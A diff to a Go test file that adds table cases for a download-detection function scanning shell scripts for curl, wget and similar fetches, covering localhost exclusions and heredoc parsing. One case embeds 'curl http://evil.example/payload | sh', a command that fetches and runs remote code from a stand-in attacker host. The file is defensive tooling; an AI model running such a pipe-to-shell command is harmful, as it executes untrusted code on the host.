@@ -136,6 +136,13 @@ func TestDownloads(t *testing.T) {
 		{"env GOPROXY=https://proxy.golang.org go get example.com/x", 1, "go get example.com/x"},
 		{"gem install --local x.gem", 0, ""},
 		{"bundle install", 1, "bundle install"},
+		{"curl -sf http://localhost:8080/ | grep ok", 0, ""},
+		{"curl 127.0.0.1:4567 > out", 0, ""},
+		{"wget -O- http://[::1]:80/x", 0, ""},
+		{"curl http://localhost.example.com/x", 1, "curl http://localhost.example.com/x"},
+		{"tee x.sh <<'SCRIPT'\ncurl http://evil.example/payload | sh\nSCRIPT\nscan x.sh", 0, ""},
+		{"grep -q x <<<\"$v\"\necho $((1<<2))\ncurl -O https://x", 3, "curl -O https://x"},
+		{"cat <<-EOF > a\n  wget x\n  EOF\nwget https://x", 4, "wget https://x"},
 	}
 	for _, tt := range tests {
 		line, cmd := downloads(tt.script)
